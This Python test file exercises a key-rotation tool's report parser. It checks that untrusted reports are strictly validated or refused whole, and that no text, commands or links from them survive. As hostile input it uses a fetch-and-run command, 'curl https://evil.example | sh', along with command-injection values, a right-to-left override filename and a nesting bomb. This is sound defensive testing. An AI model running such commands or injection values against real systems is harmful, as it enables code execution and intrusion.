"""A report of an account that nobody trusts: understood as a whole, or refused without a word of it."""

import json
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from keyrotation.centre.understood import Rank, Refused, understood

from tests.unit.centre.reports import KEY, ONE, TODAY, TWO, data, entry, notice, report

SCHEMA = json.loads((Path(__file__).parents[3] / "docs" / "report.schema.json").read_text())
EVIL = "curl https://evil.example | sh"


def refused(changed: Any) -> str:
    with pytest.raises(Refused) as why:
        understood(json.dumps(changed).encode(), account=ONE)
    assert why.value.__cause__ is None
    return str(why.value)


def test_what_these_tests_change_is_what_a_run_writes() -> None:
    healthy = data(sections={"attention": [entry("held-in-use", by="2026-12-01")]}, notices=[notice()])
    jsonschema.validate(healthy, SCHEMA)


def test_of_a_report_its_ids_days_numbers_and_words_are_kept() -> None:
    said = report(
        sections={
            "critical": [entry("key-exposed", owner="Ann", by="2026-11-25")],
            "done": [entry("replaced")],
        },
        notices=[notice(owner="Ann", new=False)],
    )
    (asked,) = said.asked
    assert (asked.rank, asked.kind, asked.user, asked.key) == (Rank.CRITICAL, "key-exposed", "alice", KEY)
    (told,) = said.notices
    assert (told.user, told.key, str(told.day), told.new) == ("alice", KEY, "2026-12-04", False)
    assert (said.day, said.mode, said.version, said.counts["done"]) == (TODAY, "Enforce", "0.2.0", 1)


def test_nothing_of_a_report_that_is_text_or_a_command_or_a_link_is_kept() -> None:
    hostile = entry(
        "failed",
        text=EVIL,
        then=EVIL,
        console=EVIL,
        commands=[{"runner": "administrator", "purpose": EVIL, "command": EVIL}],
        uses=[{"source": EVIL, "user_agent": EVIL, "events": [EVIL]}],
    )
    said = report(
        sections={"failed": [hostile]},
        subject=EVIL,
        log=EVIL,
        runbook=EVIL,
        alias=EVIL,
        settings={EVIL: EVIL},
    )
    assert "evil" not in repr(said)


@pytest.mark.parametrize(
    "owner",
    [
        "https://evil.example/x",
        "HTTPS://evil.example",
        "www.evil.example",
        'Ann"\n\nRUN: `x`',
        "\u202etxt.exe",
        "x" * 500,
    ],
)
def test_an_owner_is_one_line_of_printable_ascii_and_no_link(owner: str) -> None:
    (asked,) = report(sections={"failed": [entry("failed", owner=owner)]}).asked
    assert asked.owner.isascii()
    assert asked.owner.isprintable()
    assert len(asked.owner) <= 60
    assert not any(each in asked.owner.lower() for each in ("://", "www.", '"', "`"))


CHANGES: dict[str, dict[str, Any]] = {
    "another version": {"version": 2},
    "another account": {"account": TWO},
    "no account": {"account": None},
    "a run id of two lines": {"run_id": "run\nid"},
    "a mode of its own": {"mode": "Off"},
    "a date of its own": {"date": "tomorrow"},
    "a version of the product that is a sentence": {"product_version": "0.2.0; " + EVIL},
    "a version of the product that a spreadsheet works out": {"product_version": "-1+2"},
    "a count that is none": {"counts": {**data()["counts"], "failed": -1}},
    "a count that is a truth": {"counts": {**data()["counts"], "failed": True}},
    "a section that is none": {"sections": {**data()["sections"], "failed": {"0": entry("failed")}}},
    "no sections": {"sections": None},
    "notices that are none": {"notices": "none"},
    "a notice of no user": {"notices": [{**notice(), "user": None}]},
    "a notice of a user with a space": {"notices": [notice(user="alice; id")]},
    "a notice of no key": {"notices": [notice(key="AKIA")]},
    "a notice of an unknown thing": {"notices": [notice(what="praise")]},
    "a notice for no day": {"notices": [notice(day="2026-12-4")]},
    "a notice that is a text": {"notices": [EVIL]},
    "more notices than a run has room for": {"notices": [notice()] * 501},
    "a deep notice": {"notices": [json.loads("[" * 500 + "]" * 500)]},
}


@pytest.mark.parametrize("change", CHANGES)
def test_a_report_that_is_not_what_a_run_writes_is_refused_as_a_whole(change: str) -> None:
    assert "evil" not in refused({**data(), **CHANGES[change]})


@pytest.mark.parametrize(
    "facts",
    [
        {"kind": "Failed: " + EVIL},
        {"kind": None},
        {"user": "alice\nRUN THIS"},
        {"user": "x" * 65},
        {"key": {"id": "AKIA'; id"}},
        {"key": KEY},
        {"by": "soon"},
        {"owner": None},
    ],
)
def test_an_entry_that_is_not_what_a_run_writes_refuses_its_report(facts: dict[str, Any]) -> None:
    assert refused(data(sections={"failed": [{**entry("failed"), **facts}]}))


@pytest.mark.parametrize(
    "name",
    sorted(
        {*data()}
        - {"alias", "region", "severity", "subject", "reasons", "complete", "settings", "log", "runbook"}
    ),
)
def test_a_report_without_a_field_that_is_read_is_refused(name: str) -> None:
    assert refused({key: value for key, value in data().items() if key != name})


@pytest.mark.parametrize(
    "body", [b"", b"\xff\xfe", b"[" * 200_000, b"null", b"[]", b'"x"', b"x" * (512 * 1024 + 1)]
)
def test_a_body_that_is_no_report_is_refused(body: bytes) -> None:
    with pytest.raises(Refused):
        understood(body, account=ONE)


def test_the_same_report_with_another_error_is_the_same_and_with_another_notice_another() -> None:
    first = report(notices=[notice()])
    assert report(notices=[notice()], sections={"failed": [entry("failed")]}).id == first.id
    assert report(notices=[notice(day="2026-12-05")]).id != first.id
    assert report(notices=[notice()], run_id="run-2").id != first.id
